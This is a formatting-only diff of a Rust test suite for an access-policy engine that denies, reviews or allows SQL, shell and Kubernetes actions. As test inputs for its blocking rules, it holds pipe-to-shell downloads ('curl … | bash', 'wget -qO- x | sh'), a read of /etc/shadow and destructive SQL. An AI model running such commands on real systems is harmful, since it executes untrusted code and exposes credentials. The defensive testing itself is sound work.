@@ -11,15 +11,26 @@ fn now() -> SystemTime {
 }
 
 fn alice() -> Subject {
-    Subject { user: "alice".into(), groups: vec!["developers".into()] }
+    Subject {
+        user: "alice".into(),
+        groups: vec!["developers".into()],
+    }
 }
 
 fn member_of(groups: &[&str]) -> Subject {
-    Subject { user: "bob".into(), groups: groups.iter().map(|g| (*g).to_owned()).collect() }
+    Subject {
+        user: "bob".into(),
+        groups: groups.iter().map(|g| (*g).to_owned()).collect(),
+    }
 }
 
 fn pg(name: &str) -> Target {
-    Target { connection: name.into(), protocol: Protocol::Postgres, tags: vec![], read_only: false }
+    Target {
+        connection: name.into(),
+        protocol: Protocol::Postgres,
+        tags: vec![],
+        read_only: false,
+    }
 }
 
 fn policy(source: &str) -> Policy {
@@ -27,7 +38,11 @@ fn policy(source: &str) -> Policy {
 }
 
 fn one_rule(guardrail: &str, action: &str) -> Policy {
-    let review = if action == "review" { "approvers = [\"dba\"]" } else { "" };
+    let review = if action == "review" {
+        "approvers = [\"dba\"]"
+    } else {
+        ""
+    };
     policy(&format!(
         "[[ruleset]]\nname = \"s\"\n[[ruleset.rule]]\nname = \"r\"\nguardrail = \"{guardrail}\"\naction = \"{action}\"\n{review}\n"
     ))
@@ -47,7 +62,11 @@ fn facts(source: Source, tag: &str, category: Category) -> Classified {
             kind: Kind::Write,
             tag: tag.into(),
             objects: vec![],
-            findings: vec![Finding { category, span: 0..10, detail: format!("{tag} found") }],
+            findings: vec![Finding {
+                category,
+                span: 0..10,
+                detail: format!("{tag} found"),
+            }],
         }],
     }
 }
@@ -68,8 +87,15 @@ fn each_sql_guardrail_fires_on_its_statements_and_not_on_plain_reads() {
     ];
     for (guardrail, sql) in cases {
         let policy = one_rule(guardrail, "deny");
-        assert!(matches!(decide_sql(&policy, sql), Decision::Deny { .. }), "{guardrail} should deny {sql}");
-        assert_eq!(decide_sql(&policy, "SELECT * FROM orders WHERE id = 1"), Decision::Allow, "{guardrail}");
+        assert!(
+            matches!(decide_sql(&policy, sql), Decision::Deny { .. }),
+            "{guardrail} should deny {sql}"
+        );
+        assert_eq!(
+            decide_sql(&policy, "SELECT * FROM orders WHERE id = 1"),
+            Decision::Allow,
+            "{guardrail}"
+        );
     }
 }
 
@@ -79,24 +105,51 @@ fn separate_guardrails_do_not_fire_on_each_others_statements() {
     assert_eq!(decide_sql(&policy, "DELETE FROM t WHERE 1=1"), Decision::Allow);
     assert_eq!(decide_sql(&policy, "DROP TABLE t"), Decision::Allow);
     let policy = one_rule("drop_objects", "deny");
-    assert_eq!(decide_sql(&policy, "ALTER TABLE t DROP COLUMN c"), Decision::Allow);
+    assert_eq!(
+        decide_sql(&policy, "ALTER TABLE t DROP COLUMN c"),
+        Decision::Allow
+    );
     assert_eq!(decide_sql(&policy, "TRUNCATE t"), Decision::Allow);
 }
 
 #[test]
 fn shell_and_kubernetes_guardrails_fire_on_their_findings() {
     let cases = [
-        ("destructive_command", Source::Shell, "rm", Category::DestructiveCommand),
-        ("delete_namespace", Source::Kubernetes, "delete namespaces", Category::DeleteNamespace),
-        ("pod_exec", Source::Kubernetes, "create pods/exec", Category::PodExec),
-        ("secret_read", Source::Kubernetes, "get secrets", Category::SecretRead),
+        (
+            "destructive_command",
+            Source::Shell,
+            "rm",
+            Category::DestructiveCommand,
+        ),
+        (
+            "delete_namespace",
+            Source::Kubernetes,
+            "delete namespaces",
+            Category::DeleteNamespace,
+        ),
+        (
+            "pod_exec",
+            Source::Kubernetes,
+            "create pods/exec",
+            Category::PodExec,
+        ),
+        (
+            "secret_read",
+            Source::Kubernetes,
+            "get secrets",
+            Category::SecretRead,
+        ),
     ];
     for (guardrail, source, tag, category) in cases {
         let policy = one_rule(guardrail, "deny");
         let decision = policy.decide(&alice(), &pg("any"), &facts(source, tag, category), now());
         assert!(matches!(decision, Decision::Deny { .. }), "{guardrail}");
         let other = facts(source, tag, Category::Write);
-        assert_eq!(policy.decide(&alice(), &pg("any"), &other, now()), Decision::Allow, "{guardrail}");
+        assert_eq!(
+            policy.decide(&alice(), &pg("any"), &other, now()),
+            Decision::Allow,
+            "{guardrail}"
+        );
     }
 }
 
@@ -104,11 +157,23 @@ fn shell_and_kubernetes_guardrails_fire_on_their_findings() {
 fn a_refusal_names_the_rule_the_guardrail_the_statement_and_its_span() {
     let policy = one_rule("drop_objects", "deny");
     let sql = "SELECT 1; DROP TABLE public.users";
-    let Decision::Deny { rule, reason, item_index, span, hint } = decide_sql(&policy, sql) else { panic!() };
+    let Decision::Deny {
+        rule,
+        reason,
+        item_index,
+        span,
+        hint,
+    } = decide_sql(&policy, sql)
+    else {
+        panic!()
+    };
     assert_eq!(rule, "r");
     assert_eq!(item_index, 1);
     assert_eq!(&sql[span], "DROP TABLE public.users");
-    assert_eq!(reason, "blocked by rule `r` (drop_objects): DROP TABLE public.users — statement 2");
+    assert_eq!(
+        reason,
+        "blocked by rule `r` (drop_objects): DROP TABLE public.users — statement 2"
+    );
     assert!(hint.is_some());
 }
 
@@ -127,8 +192,16 @@ fn a_review_carries_approvers_count_and_expiry_counted_from_now() {
         expires_after = "90m"
         "#,
     );
-    let Decision::Review { rule, approver_groups, approvals_required, expires_after, expires_at, item_index, reason, .. } =
-        decide_sql(&policy, "TRUNCATE orders")
+    let Decision::Review {
+        rule,
+        approver_groups,
+        approvals_required,
+        expires_after,
+        expires_at,
+        item_index,
+        reason,
+        ..
+    } = decide_sql(&policy, "TRUNCATE orders")
     else {
         panic!()
     };
@@ -160,7 +233,10 @@ fn deny_beats_review_even_when_the_review_comes_first() {
         "#,
     );
     let decision = decide_sql(&policy, "TRUNCATE a; DROP TABLE b");
-    assert!(matches!(decision, Decision::Deny { ref rule, item_index: 1, .. } if rule == "no-drop"), "{decision:?}");
+    assert!(
+        matches!(decision, Decision::Deny { ref rule, item_index: 1, .. } if rule == "no-drop"),
+        "{decision:?}"
+    );
 }
 
 #[test]
@@ -198,7 +274,10 @@ fn rule_sets_apply_by_connection_glob_protocol_and_tag() {
     assert!(!denied(target("staging", Protocol::Postgres, &["pci"])));
     assert!(!denied(target("prod-eu", Protocol::Mysql, &["pci"])));
     assert!(!denied(target("prod-eu", Protocol::Postgres, &["dev"])));
-    assert!(!denied(target("Prod-eu", Protocol::Postgres, &["pci"])), "connection globs are case-sensitive");
+    assert!(
+        !denied(target("Prod-eu", Protocol::Postgres, &["pci"])),
+        "connection globs are case-sensitive"
+    );
 }
 
 #[test]
@@ -222,33 +301,61 @@ fn rule_sets_and_rules_apply_by_user_group_with_exemptions() {
         "#,
     );
     let ask = |subject: Subject, sql: &str| policy.decide_pg(&subject, &pg("db"), sql, now());
-    assert!(matches!(ask(member_of(&["developers"]), "DROP TABLE t"), Decision::Deny { .. }));
-    assert_eq!(ask(member_of(&["developers", "break-glass"]), "DROP TABLE t"), Decision::Allow);
+    assert!(matches!(
+        ask(member_of(&["developers"]), "DROP TABLE t"),
+        Decision::Deny { .. }
+    ));
+    assert_eq!(
+        ask(member_of(&["developers", "break-glass"]), "DROP TABLE t"),
+        Decision::Allow
+    );
     assert_eq!(ask(member_of(&["dba"]), "DROP TABLE t"), Decision::Allow);
-    assert_eq!(ask(member_of(&["developers"]), "CREATE TABLE t (a int)"), Decision::Allow);
+    assert_eq!(
+        ask(member_of(&["developers"]), "CREATE TABLE t (a int)"),
+        Decision::Allow
+    );
     assert!(matches!(
         ask(member_of(&["contractors"]), "CREATE TABLE t (a int)"),
         Decision::Deny { ref rule, .. } if rule == "contractors-no-ddl"
     ));
-    assert_eq!(ask(member_of(&["contractors", "senior"]), "CREATE TABLE t (a int)"), Decision::Allow);
+    assert_eq!(
+        ask(member_of(&["contractors", "senior"]), "CREATE TABLE t (a int)"),
+        Decision::Allow
+    );
 }
 
 #[test]
 fn read_only_connections_refuse_writes_without_any_rule() {
     let policy = Policy::default();
-    let target = Target { read_only: true, ..pg("replica") };
+    let target = Target {
+        read_only: true,
+        ..pg("replica")
+    };
     let decision = policy.decide_pg(&alice(), &target, "UPDATE t SET a = 1 WHERE id = 1", now());
-    assert!(matches!(decision, Decision::Deny { ref rule, .. } if rule == READ_ONLY_RULE), "{decision:?}");
-    assert_eq!(policy.decide_pg(&alice(), &target, "SELECT * FROM t", now()), Decision::Allow);
-    assert!(!policy.decide_pg(&alice(), &target, "SELECT nextval('s')", now()).is_allowed());
-    assert!(!policy.decide_pg(&alice(), &target, "GRANT SELECT ON t TO x", now()).is_allowed());
+    assert!(
+        matches!(decision, Decision::Deny { ref rule, .. } if rule == READ_ONLY_RULE),
+        "{decision:?}"
+    );
+    assert_eq!(
+        policy.decide_pg(&alice(), &target, "SELECT * FROM t", now()),
+        Decision::Allow
+    );
+    assert!(!policy
+        .decide_pg(&alice(), &target, "SELECT nextval('s')", now())
+        .is_allowed());
+    assert!(!policy
+        .decide_pg(&alice(), &target, "GRANT SELECT ON t TO x", now())
+        .is_allowed());
 }
 
 #[test]
 fn under_read_only_an_unknown_function_is_opaque_and_elsewhere_it_is_fine() {
     let read_only = one_rule("read_only", "deny");
     let decision = decide_sql(&read_only, "SELECT my_func()");
-    assert!(matches!(decision, Decision::Deny { ref rule, .. } if rule == "opaque"), "{decision:?}");
+    assert!(
+        matches!(decision, Decision::Deny { ref rule, .. } if rule == "opaque"),
+        "{decision:?}"
+    );
     assert_eq!(decide_sql(&read_only, "SELECT lower('A')"), Decision::Allow);
     let no_drop = one_rule("drop_objects", "deny");
     assert_eq!(decide_sql(&no_drop, "SELECT my_func()"), Decision::Allow);
@@ -257,10 +364,18 @@ fn under_read_only_an_unknown_function_is_opaque_and_elsewhere_it_is_fine() {
 #[test]
 fn opaque_statements_get_the_strictest_action_of_the_applicable_rules_by_default() {
     let deny = one_rule("drop_objects", "deny");
-    assert!(matches!(decide_sql(&deny, "DO $$ BEGIN END $$"), Decision::Deny { .. }));
+    assert!(matches!(
+        decide_sql(&deny, "DO $$ BEGIN END $$"),
+        Decision::Deny { .. }
+    ));
     let review = one_rule("truncate", "review");
-    assert!(matches!(decide_sql(&review, "EXECUTE p"), Decision::Review { ref approver_groups, .. } if approver_groups == &["dba"]));
-    assert_eq!(decide_sql(&Policy::default(), "DO $$ BEGIN END $$"), Decision::Allow);
+    assert!(
+        matches!(decide_sql(&review, "EXECUTE p"), Decision::Review { ref approver_groups, .. } if approver_groups == &["dba"])
+    );
+    assert_eq!(
+        decide_sql(&Policy::default(), "DO $$ BEGIN END $$"),
+        Decision::Allow
+    );
 }
 
 #[test]
@@ -270,14 +385,27 @@ fn an_explicit_opaque_setting_overrides_the_default() {
             "[[ruleset]]\nname = \"s\"\n[ruleset.opaque]\n{opaque}\n[[ruleset.rule]]\nname = \"no-drop\"\nguardrail = \"drop_objects\"\naction = \"deny\"\n"
         ))
     };
-    assert_eq!(decide_sql(&with_opaque("action = \"allow\""), "DO $$ BEGIN END $$"), Decision::Allow);
+    assert_eq!(
+        decide_sql(&with_opaque("action = \"allow\""), "DO $$ BEGIN END $$"),
+        Decision::Allow
+    );
     assert!(matches!(
-        decide_sql(&with_opaque("action = \"review\"\napprovers = [\"dba\"]"), "SELEC 1"),
+        decide_sql(
+            &with_opaque("action = \"review\"\napprovers = [\"dba\"]"),
+            "SELEC 1"
+        ),
         Decision::Review { .. }
     ));
-    assert!(matches!(decide_sql(&with_opaque("action = \"strictest\""), "SELEC 1"), Decision::Deny { .. }));
-    assert!(matches!(decide_sql(&with_opaque("action = \"deny\""), "\\! id"), Decision::Deny { .. }));
-    let Decision::Deny { reason, .. } = decide_sql(&with_opaque("action = \"deny\""), "DO $$ BEGIN END $$") else {
+    assert!(matches!(
+        decide_sql(&with_opaque("action = \"strictest\""), "SELEC 1"),
+        Decision::Deny { .. }
+    ));
+    assert!(matches!(
+        decide_sql(&with_opaque("action = \"deny\""), "\\! id"),
+        Decision::Deny { .. }
+    ));
+    let Decision::Deny { reason, .. } = decide_sql(&with_opaque("action = \"deny\""), "DO $$ BEGIN END $$")
+    else {
         panic!()
     };
     assert!(reason.contains("DO block"), "{reason}");
@@ -294,8 +422,14 @@ fn opaque_settings_only_count_when_their_rule_set_applies() {
         action = "deny"
         "#,
     );
-    assert!(matches!(policy.decide_pg(&alice(), &pg("prod-1"), "DO $$ $$", now()), Decision::Deny { .. }));
-    assert_eq!(policy.decide_pg(&alice(), &pg("dev-1"), "DO $$ $$", now()), Decision::Allow);
+    assert!(matches!(
+        policy.decide_pg(&alice(), &pg("prod-1"), "DO $$ $$", now()),
+        Decision::Deny { .. }
+    ));
+    assert_eq!(
+        policy.decide_pg(&alice(), &pg("dev-1"), "DO $$ $$", now()),
+        Decision::Allow
+    );
 }
 
 #[test]
@@ -316,14 +450,39 @@ fn custom_rules_match_statement_tags_and_object_names() {
         action = "deny"
         "#,
     );
-    assert!(matches!(decide_sql(&policy, "DELETE FROM billing.invoices WHERE id = 1"), Decision::Review { .. }));
-    assert!(matches!(decide_sql(&policy, "update invoices set a = 1 where id = 2"), Decision::Review { .. }));
-    assert_eq!(decide_sql(&policy, "DELETE FROM public.users WHERE id = 1"), Decision::Allow);
-    assert_eq!(decide_sql(&policy, "DELETE FROM users WHERE id = 1"), Decision::Allow, "billing.* is not every table");
-    assert_eq!(decide_sql(&policy, "SELECT * FROM billing.invoices"), Decision::Allow);
-    assert!(matches!(decide_sql(&policy, "EXPLAIN ANALYZE DELETE FROM billing.x WHERE id = 1"), Decision::Review { .. }));
-    assert!(matches!(decide_sql(&policy, "drop function f()"), Decision::Deny { .. }));
-    let Decision::Review { reason, .. } = decide_sql(&policy, "INSERT INTO billing.invoices VALUES (1)") else { panic!() };
+    assert!(matches!(
+        decide_sql(&policy, "DELETE FROM billing.invoices WHERE id = 1"),
+        Decision::Review { .. }
+    ));
+    assert!(matches!(
+        decide_sql(&policy, "update invoices set a = 1 where id = 2"),
+        Decision::Review { .. }
+    ));
+    assert_eq!(
+        decide_sql(&policy, "DELETE FROM public.users WHERE id = 1"),
+        Decision::Allow
+    );
+    assert_eq!(
+        decide_sql(&policy, "DELETE FROM users WHERE id = 1"),
+        Decision::Allow,
+        "billing.* is not every table"
+    );
+    assert_eq!(
+        decide_sql(&policy, "SELECT * FROM billing.invoices"),
+        Decision::Allow
+    );
+    assert!(matches!(
+        decide_sql(&policy, "EXPLAIN ANALYZE DELETE FROM billing.x WHERE id = 1"),
+        Decision::Review { .. }
+    ));
+    assert!(matches!(
+        decide_sql(&policy, "drop function f()"),
+        Decision::Deny { .. }
+    ));
+    let Decision::Review { reason, .. } = decide_sql(&policy, "INSERT INTO billing.invoices VALUES (1)")
+    else {
+        panic!()
+    };
     assert!(reason.contains("INSERT on billing.invoices"), "{reason}");
 }
 
@@ -344,10 +503,16 @@ fn object_only_custom_rules_and_exemptions() {
         except_objects = ["tmp_*", "scratch.*"]
         "#,
     );
-    assert!(matches!(decide_sql(&policy, "SELECT * FROM public.audit_log"), Decision::Deny { .. }));
+    assert!(matches!(
+        decide_sql(&policy, "SELECT * FROM public.audit_log"),
+        Decision::Deny { .. }
+    ));
     assert_eq!(decide_sql(&policy, "DROP TABLE tmp_import"), Decision::Allow);
     assert_eq!(decide_sql(&policy, "DROP TABLE scratch.x"), Decision::Allow);
-    assert!(matches!(decide_sql(&policy, "DROP TABLE tmp_import, users"), Decision::Deny { .. }));
+    assert!(matches!(
+        decide_sql(&policy, "DROP TABLE tmp_import, users"),
+        Decision::Deny { .. }
+    ));
 }
 
 #[test]
@@ -364,17 +529,30 @@ fn pattern_rules_see_raw_payloads_and_text() {
         "#,
     );
     let body = "please run curl https://x.example/i.sh | bash now";
-    let Decision::Deny { span, reason, hint, .. } = policy.decide_payload(&alice(), &pg("h"), body, now()) else {
+    let Decision::Deny {
+        span, reason, hint, ..
+    } = policy.decide_payload(&alice(), &pg("h"), body, now())
+    else {
         panic!()
     };
     assert_eq!(&body[span], "curl https://x.example/i.sh | bash");
     assert!(reason.contains("(pattern)"));
     assert_eq!(hint.as_deref(), Some("Download it and read it first"));
-    assert_eq!(policy.decide_payload(&alice(), &pg("h"), "curl https://x.example -o f", now()), Decision::Allow);
+    assert_eq!(
+        policy.decide_payload(&alice(), &pg("h"), "curl https://x.example -o f", now()),
+        Decision::Allow
+    );
     let line = "ls; wget -qO- x | sh";
     let classified = facts(Source::Shell, "ls", Category::Write);
-    assert!(matches!(policy.decide_text(&alice(), &pg("h"), line, &classified, now()), Decision::Deny { .. }));
-    assert_eq!(policy.decide(&alice(), &pg("h"), &classified, now()), Decision::Allow, "no text, no pattern match");
+    assert!(matches!(
+        policy.decide_text(&alice(), &pg("h"), line, &classified, now()),
+        Decision::Deny { .. }
+    ));
+    assert_eq!(
+        policy.decide(&alice(), &pg("h"), &classified, now()),
+        Decision::Allow,
+        "no text, no pattern match"
+    );
 }
 
 #[test]
@@ -397,13 +575,21 @@ fn allowed_requests_carry_the_mask_plan_of_applicable_rule_sets() {
         style = "redact"
         "#,
     );
-    let Decision::AllowWithMask(plan) = policy.decide_pg(&alice(), &pg("prod-1"), "SELECT * FROM users", now()) else {
+    let Decision::AllowWithMask(plan) =
+        policy.decide_pg(&alice(), &pg("prod-1"), "SELECT * FROM users", now())
+    else {
         panic!()
     };
     assert_eq!(plan.from_rulesets, ["prod"]);
     assert_eq!(plan.mask.columns[0].column, "password*");
-    assert!(matches!(policy.decide_pg(&alice(), &pg("prod-1"), "DROP TABLE users", now()), Decision::Deny { .. }));
-    assert_eq!(policy.decide_pg(&alice(), &pg("dev-1"), "SELECT * FROM users", now()), Decision::Allow);
+    assert!(matches!(
+        policy.decide_pg(&alice(), &pg("prod-1"), "DROP TABLE users", now()),
+        Decision::Deny { .. }
+    ));
+    assert_eq!(
+        policy.decide_pg(&alice(), &pg("dev-1"), "SELECT * FROM users", now()),
+        Decision::Allow
+    );
 }
 
 #[test]
@@ -418,15 +604,30 @@ fn the_example_in_the_documentation_loads_and_behaves() {
     let ask = |sql: &str| policy.decide_pg(&dev, &prod, sql, now());
     assert!(matches!(ask("DROP TABLE users"), Decision::Deny { ref rule, .. } if rule == "no-drop"));
     assert!(ask("DROP TABLE scratch.t").is_allowed());
-    assert!(matches!(ask("ALTER TABLE t DROP COLUMN c"), Decision::Review { approvals_required: 2, .. }));
+    assert!(matches!(
+        ask("ALTER TABLE t DROP COLUMN c"),
+        Decision::Review {
+            approvals_required: 2,
+            ..
+        }
+    ));
     assert!(matches!(ask("DO $$ BEGIN END $$"), Decision::Review { .. }));
     assert!(matches!(ask("SELECT * FROM users"), Decision::AllowWithMask(_)));
     let breakglass = member_of(&["break-glass"]);
-    assert!(policy.decide_pg(&breakglass, &prod, "DROP TABLE users", now()).is_allowed());
-    let analytics = Target { tags: vec!["analytics".into()], ..pg("warehouse") };
+    assert!(policy
+        .decide_pg(&breakglass, &prod, "DROP TABLE users", now())
+        .is_allowed());
+    let analytics = Target {
+        tags: vec!["analytics".into()],
+        ..pg("warehouse")
+    };
     let analyst = member_of(&["analysts"]);
-    assert!(!policy.decide_pg(&analyst, &analytics, "INSERT INTO t VALUES (1)", now()).is_allowed());
-    assert!(policy.decide_pg(&analyst, &analytics, "SELECT 1", now()).is_allowed());
+    assert!(!policy
+        .decide_pg(&analyst, &analytics, "INSERT INTO t VALUES (1)", now())
+        .is_allowed());
+    assert!(policy
+        .decide_pg(&analyst, &analytics, "SELECT 1", now())
+        .is_allowed());
 }
 
 #[test]
@@ -464,7 +665,9 @@ mod loading {
 
     #[test]
     fn invalid_toml_is_refused_with_its_position() {
-        let Err(error) = Policy::from_toml("[[ruleset]\nname = ") else { panic!() };
+        let Err(error) = Policy::from_toml("[[ruleset]\nname = ") else {
+            panic!()
+        };
         assert!(error.to_string().starts_with("line 1"), "{error}");
     }
 
@@ -501,11 +704,18 @@ guardrail = "truncate"
 action = "block"
 "#,
         );
-        let at = |key: &str| found.iter().find(|p| p.key == key).unwrap_or_else(|| panic!("no problem at {key}: {found:#?}"));
+        let at = |key: &str| {
+            found
+                .iter()
+                .find(|p| p.key == key)
+                .unwrap_or_else(|| panic!("no problem at {key}: {found:#?}"))
+        };
         assert_eq!(at("ruleset[0].protocols").line, 4);
         assert_eq!(at("ruleset[0].connections").line, 5);
         assert_eq!(at("ruleset[0].rule[0].guardrail").line, 8);
-        assert!(at("ruleset[0].rule[0].guardrail").message.contains("drop_objects"));
+        assert!(at("ruleset[0].rule[0].guardrail")
+            .message
+            .contains("drop_objects"));
         assert_eq!(at("ruleset[0].rule[1].pattern").line, 12);
         assert_eq!(at("ruleset[0].rule[2].approvers").line, 17);
         assert_eq!(at("ruleset[0].rule[3].expires_after").line, 23);
@@ -555,6 +765,13 @@ fn objects_named_by_other_classifiers_are_matched_too() {
     );
     let mut classified = facts(Source::Shell, "cat", Category::Write);
     classified.items[0].findings.clear();
-    classified.items[0].objects.push(ObjectRef { kind: ObjectKind::Path, name: "/etc/shadow".into(), access: Access::Read });
-    assert!(matches!(policy.decide(&alice(), &pg("h"), &classified, now()), Decision::Deny { .. }));
+    classified.items[0].objects.push(ObjectRef {
+        kind: ObjectKind::Path,
+        name: "/etc/shadow".into(),
+        access: Access::Read,
+    });
+    assert!(matches!(
+        policy.decide(&alice(), &pg("h"), &classified, now()),
+        Decision::Deny { .. }
+    ));
 }
